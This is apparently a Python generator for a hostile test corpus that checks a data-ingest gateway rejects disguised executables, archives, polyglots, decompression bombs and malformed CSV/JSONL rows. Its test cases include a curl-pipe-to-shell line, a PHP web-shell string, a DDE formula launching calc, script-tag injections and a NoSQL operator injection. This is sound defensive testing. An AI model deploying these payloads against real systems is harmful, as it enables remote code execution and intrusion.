#!/usr/bin/env python3
"""Generates the hostile corpus: every file here is something the Z1 gateway must refuse,
with the reason code it must give. `expected.tsv` lists them; the Rust test
`workers/ingest/src/corpus_tests.rs` drops each through the gateway.

    python3 tests/corpus/generate.py          # (re)write the files
    python3 tests/corpus/generate.py --check  # fail if the committed files differ

Deterministic (fixed timestamps in gzip, zip and tar headers), standard library only.
"""
import bz2
import gzip
import io
import json
import lzma
import sys
import tarfile
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
HEADER = "transaction_id,customer_name,customer_cpf,customer_email,amount,merchant_category,country,channel,tx_time,age_band,is_fraud"
COLUMNS = HEADER.split(",")


def row(i, **over):
    values = {
        "transaction_id": f"tx-c-{i:04d}",
        "customer_name": "Ana Silva",
        "customer_cpf": "529.982.247-25",
        "customer_email": f"ana.silva{i}@example.com.br",
        "amount": "120.50",
        "merchant_category": "5411",
        "country": "BR",
        "channel": "online",
        "tx_time": "2026-11-01T10:00:00Z",
        "age_band": "30-44",
        "is_fraud": "false",
    }
    values.update(over)
    return ",".join(values[c] for c in COLUMNS)


def csv(*bad_rows, good=10):
    """A valid file of `good` rows with `bad_rows` (raw lines) in the middle: one bad row
    in eleven is far above the contract's 1% threshold."""
    lines = [HEADER] + [row(i) for i in range(good // 2)] + list(bad_rows) + [row(i) for i in range(good // 2, good)]
    return ("\n".join(lines) + "\n").encode()


def jsonl(*bad_lines, good=10):
    def obj(i):
        d = dict(zip(COLUMNS, row(i).split(",")))
        d["amount"] = 120.5
        d["is_fraud"] = False
        return json.dumps(d)

    lines = [obj(i) for i in range(good // 2)] + list(bad_lines) + [obj(i) for i in range(good // 2, good)]
    return ("\n".join(lines) + "\n").encode()


def gz(data):
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0) as f:
        f.write(data)
    return out.getvalue()


def zip_of(name, data):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
        z.writestr(info, data)
    return out.getvalue()


def tar_of(name, data):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as t:
        info = tarfile.TarInfo(name)
        info.size, info.mtime = len(data), 0
        t.addfile(info, io.BytesIO(data))
    return out.getvalue()


GOOD = csv(good=10)
JSON_GOOD = jsonl(good=10)
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(100)
PE = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(56) + b"This program cannot be run in DOS mode.\r\n$" + bytes(64)
BOMB_TEXT = (HEADER + "\n" + (row(1) + "\n") * 200_000).encode()  # ~22 MB inflated

# (file, bytes, expected reason, first rejected row's reason or "-", landing key or "-", requester or "-")
CASES = [
    # -- executables, archives, documents (by magic bytes, whatever the name says)
    ("elf-named.csv", ELF, "executable", "-"),
    ("pe-named.csv", PE, "executable", "-"),
    ("macho-named.csv", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(200), "executable", "-"),
    ("shebang.csv", b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n", "executable", "-"),
    ("wasm-named.csv", b"\x00asm\x01\x00\x00\x00" + bytes(32), "executable", "-"),
    ("zip-named.csv", zip_of("data.csv", GOOD), "archive", "-"),
    ("7z-named.csv", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(64), "archive", "-"),
    ("rar-named.csv", b"Rar!\x1a\x07\x01\x00" + bytes(64), "archive", "-"),
    ("tar-named.csv", tar_of("data.csv", GOOD), "archive", "-"),
    ("bzip2-named.csv", bz2.compress(GOOD), "archive", "-"),
    ("xz-named.csv", lzma.compress(GOOD), "archive", "-"),
    ("zstd-named.csv", b"\x28\xb5\x2f\xfd\x04\x00" + bytes(32), "archive", "-"),
    ("gzip-in-gzip.csv.gz", gz(gz(GOOD)), "archive", "-"),
    ("pdf-named.csv", b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", "document", "-"),
    ("ole2.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), "document", "-"),
    ("png-named.csv", b"\x89PNG\r\n\x1a\n" + bytes(64), "document", "-"),
    ("rtf-named.csv", b"{\\rtf1\\ansi transaction_id}\n", "document", "-"),
    ("parquet-named.csv", b"PAR1" + bytes(64) + b"PAR1", "unsupported_format", "-"),
    ("sqlite-named.csv", b"SQLite format 3\x00" + bytes(84), "unsupported_format", "-"),
    # -- polyglots: a valid CSV head with another format inside
    ("polyglot-zip-tail.csv", GOOD + zip_of("x.exe", b"MZ payload"), "polyglot", "-"),
    ("polyglot-pdf-cell.csv", csv(row(99, customer_name="%PDF-1.4 obj")), "polyglot", "-"),
    ("polyglot-html.csv", csv(row(99, customer_name="<script>fetch(1)</script>")), "polyglot", "-"),
    ("polyglot-php.csv", csv(row(99, customer_name="<?php system($_GET[c]); ?>")), "polyglot", "-"),
    ("polyglot-pe-tail.csv", GOOD + PE, "polyglot", "-"),
    # -- compression
    ("gzip-bomb.csv.gz", gz(BOMB_TEXT), "decompression_bomb", "-"),
    ("gzip-truncated.csv.gz", gz(GOOD)[:-12], "corrupt_compression", "-"),
    ("gzip-bad-crc.csv.gz", gz(GOOD)[:-8] + b"\x00\x00\x00\x00" + gz(GOOD)[-4:], "corrupt_compression", "-"),
    # -- encoding
    ("nul-bytes.csv", GOOD[:200] + b"\x00" + GOOD[200:], "binary_content", "-"),
    ("escape-sequence.csv", csv(row(99, customer_name="Ana \x1b[31mred")), "binary_content", "-"),
    ("utf16le.csv", b"\xff\xfe" + HEADER.encode("utf-16-le"), "unsupported_format", "-"),
    ("invalid-utf8.csv", GOOD[:150] + b"\xc3\x28" + GOOD[150:], "invalid_utf8", "-"),
    ("overlong-utf8.csv", GOOD[:150] + b"\xc0\xaf" + GOOD[150:], "invalid_utf8", "-"),
    ("truncated-utf8.csv", GOOD + b"tx-c-9,Jo\xc3", "invalid_utf8", "-"),
    ("latin1.csv", csv(row(99, customer_name="Jo\xe3o").encode("latin-1").decode("latin-1")).decode("utf-8").encode("latin-1"), "invalid_utf8", "-"),
    # -- header
    ("confusable-header.csv", GOOD.replace(b"amount", "\u0430mount".encode(), 1), "confusable_header", "-"),
    ("zero-width-header.csv", GOOD.replace(b"country", "coun\u200btry".encode(), 1), "confusable_header", "-"),
    ("fullwidth-header.csv", GOOD.replace(b"channel", "\uff43hannel".encode(), 1), "confusable_header", "-"),
    ("reordered-header.csv", GOOD.replace(b"amount,merchant_category", b"merchant_category,amount", 1), "wrong_header", "-"),
    ("missing-column.csv", GOOD.replace(b",is_fraud", b"", 1), "wrong_header", "-"),
    ("json-array.jsonl", b"[1,2,3]\n[4,5,6]\n", "wrong_header", "-"),
    ("empty.csv", b"", "empty", "-"),
    ("header-only.csv", (HEADER + "\n").encode(), "empty", "-"),
    ("bom-only.csv", b"\xef\xbb\xbf", "empty", "-"),
    # -- limits
    ("long-line.csv", csv(row(99, customer_name="A" * 5000)), "line_too_long", "-"),
    ("no-line-end.csv", (HEADER + "\n" + "x" * 100_000).encode(), "line_too_long", "-"),
    ("unclosed-quote-forever.csv", (HEADER + "\n" + 'tx-1,"' + "y" * 100_000).encode(), "line_too_long", "-"),
    # -- provenance
    ("unknown-source.csv", GOOD, "unknown_source", "-", "intruder/transactions_training/unknown-source.csv"),
    ("untrusted-writer.csv", GOOD, "untrusted_source", "-", "-", "999999999999"),
    # -- rows (one bad row in eleven: over the 1% threshold; the first reject is evidence)
    ("ragged-row.csv", csv(row(99) + ",extra"), "reject_threshold", "ragged_row"),
    ("short-row.csv", csv("tx-1,Ana"), "reject_threshold", "ragged_row"),
    ("quote-in-field.csv", csv(row(99, customer_name='Ana "the" Silva')), "reject_threshold", "bad_quoting"),
    ("text-after-quote.csv", csv(row(99, customer_name='"Ana"Silva')), "reject_threshold", "bad_quoting"),
    ("nan-amount.csv", csv(row(99, amount="NaN")), "reject_threshold", "non_finite"),
    ("inf-amount.csv", csv(row(99, amount="inf")), "reject_threshold", "non_finite"),
    ("overflow-amount.csv", csv(row(99, amount="1e400")), "reject_threshold", "non_finite"),
    ("negative-amount.csv", csv(row(99, amount="-5.00")), "reject_threshold", "out_of_range"),
    ("huge-amount.csv", csv(row(99, amount="99999999")), "reject_threshold", "out_of_range"),
    ("text-amount.csv", csv(row(99, amount="12,50".replace(",", ";"))), "reject_threshold", "unparseable_value"),
    ("future-timestamp.csv", csv(row(99, tx_time="2099-01-01T00:00:00Z")), "reject_threshold", "timestamp_out_of_range"),
    ("ancient-timestamp.csv", csv(row(99, tx_time="1899-12-31T23:59:59Z")), "reject_threshold", "timestamp_out_of_range"),
    ("impossible-date.csv", csv(row(99, tx_time="2026-02-30T10:00:00Z")), "reject_threshold", "unparseable_value"),
    ("no-offset-timestamp.csv", csv(row(99, tx_time="2026-11-01T10:00:00")), "reject_threshold", "unparseable_value"),
    ("bad-boolean.csv", csv(row(99, is_fraud="yes")), "reject_threshold", "unparseable_value"),
    ("formula-equals.csv", csv(row(99, customer_name="=HYPERLINK(1)")), "reject_threshold", "formula_injection"),
    ("formula-dde.csv", csv(row(99, customer_name="=cmd|' /C calc'!A0")), "reject_threshold", "formula_injection"),
    ("formula-at.csv", csv(row(99, customer_name="@SUM(1+1)")), "reject_threshold", "formula_injection"),
    ("formula-plus.csv", csv(row(99, customer_email="+1+1")), "reject_threshold", "formula_injection"),
    ("formula-tab.csv", csv(row(99, customer_name="\t=1+1")), "reject_threshold", "formula_injection"),
    ("long-field.csv", csv(row(99, country="BRAZIL")), "reject_threshold", "field_too_long"),
    ("bidi-override.csv", csv(row(99, customer_name="Ana \u202egnp.exe")), "reject_threshold", "invisible_character"),
    ("zero-width-value.csv", csv(row(99, customer_cpf="529.982.247-25\u200b")), "reject_threshold", "invisible_character"),
    ("jsonl-duplicate-key.jsonl", jsonl('{"amount":1,"amount":2}'), "reject_threshold", "unexpected_field"),
    ("jsonl-unknown-key.jsonl", jsonl('{"admin":true}'), "reject_threshold", "unexpected_field"),
    ("jsonl-nested.jsonl", jsonl('{"customer_name":{"$gt":""}}'), "reject_threshold", "unparseable_value"),
    ("jsonl-string-amount.jsonl", jsonl('{"amount":"120.50"}'), "reject_threshold", "unparseable_value"),
    ("jsonl-broken.jsonl", jsonl('{"amount":1'), "reject_threshold", "invalid_json"),
    ("jsonl-escaped-nul.jsonl", jsonl('{"customer_name":"a\\u0000b\\u001b[2J"}'), "reject_threshold", "binary_content"),
    ("jsonl-escaped-script.jsonl", jsonl('{"customer_name":"\\u003cscript>x"}'), "reject_threshold", "polyglot"),
    ("polyglot-mixed-case.csv", csv(row(99, customer_name="<ScRiPt>x</ScRiPt>")), "polyglot", "-"),
]


def main():
    check = "--check" in sys.argv
    stale = []
    manifest = ["# file\treason\tfirst_rejected_row_reason\tlanding_key\trequester"]
    for case in CASES:
        name, data, reason, row_reason = case[:4]
        key = case[4] if len(case) > 4 else "-"
        requester = case[5] if len(case) > 5 else "-"
        if isinstance(data, str):
            data = data.encode()
        path = HERE / name
        if check:
            if not path.exists() or path.read_bytes() != data:
                stale.append(name)
        else:
            path.write_bytes(data)
        manifest.append("\t".join([name, reason, row_reason, key, requester]))
    text = "\n".join(manifest) + "\n"
    if check:
        if (HERE / "expected.tsv").read_text() != text:
            stale.append("expected.tsv")
        if stale:
            sys.exit(f"corpus out of date (run tests/corpus/generate.py): {', '.join(stale)}")
        print(f"corpus ok: {len(CASES)} files")
    else:
        (HERE / "expected.tsv").write_text(text)
        print(f"wrote {len(CASES)} files")


if __name__ == "__main__":
    main()
